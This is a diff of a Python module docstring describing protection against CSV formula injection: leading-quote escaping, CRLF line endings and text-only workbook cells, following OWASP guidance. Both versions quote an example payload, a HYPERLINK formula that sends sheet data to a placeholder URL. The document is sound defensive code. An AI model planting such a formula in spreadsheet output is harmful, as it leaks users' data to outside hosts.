@@ -1,26 +1,16 @@
 """Text that a spreadsheet must not run: formula-safe CSV columns and workbook cells.
 
-An event name or label is free text from the user's calendar, and it reaches
-every table evcal writes. A spreadsheet program that opens a CSV file runs a
-cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, a
-tab or carriage return) as a formula; ``=HYPERLINK("http://...?q="&A1, "click")``
-then sends the sheet's data away. OWASP's guidance on CSV injection is the
-rule used here:
-
-* **CSV**: a text cell that begins with one of those characters, or with ``'``,
-  gets a single quote ``'`` in front (:func:`guard_text`), so removing one
-  leading quote (:func:`unguard_text`) gives back exactly the text written.
-  Numeric columns are never touched: a negative number stays a number.
-* Python's csv writer quotes only the characters of its line terminator, so a
-  text cell holding a carriage return would end the row early for every CSV
-  reader: :func:`write_csv` then ends the file's lines with CRLF (RFC 4180),
-  which makes the writer quote that cell. Other files keep LF line ends.
-* **Workbooks**: text is stored as a text cell, never as a formula
-  (:func:`formula_safe_cell`), with no quote added; characters an .xlsx file
-  cannot hold (XML 1.0 control characters) become U+FFFD.
-
-One implementation for every writer: the plan and compare tables, the
-workbook sheets, and the model folder's CSV files.
+Calendar names and labels are free text, and a spreadsheet runs a CSV cell
+that begins with ``=``, ``+``, ``-``, ``@`` (in some programs a tab or carriage
+return) as a formula, e.g. ``=HYPERLINK("http://...?q="&A1, "click")``. The rule
+(OWASP, CSV injection): such a text cell, or one beginning with ``'``, gets a
+``'`` in front (:func:`guard_text`; :func:`unguard_text` is its exact inverse);
+numeric columns are never touched. Python's csv writer quotes only the
+characters of its line terminator, so a file with a carriage return in a cell
+is written with CRLF line ends (RFC 4180, :func:`write_csv`). In workbooks text
+is stored as a text cell, never a formula, without a quote; characters an
+.xlsx cannot hold become U+FFFD (:func:`formula_safe_cell`). One implementation
+for every writer: plan and compare tables, workbook sheets, model folders.
 """
 
 from __future__ import annotations
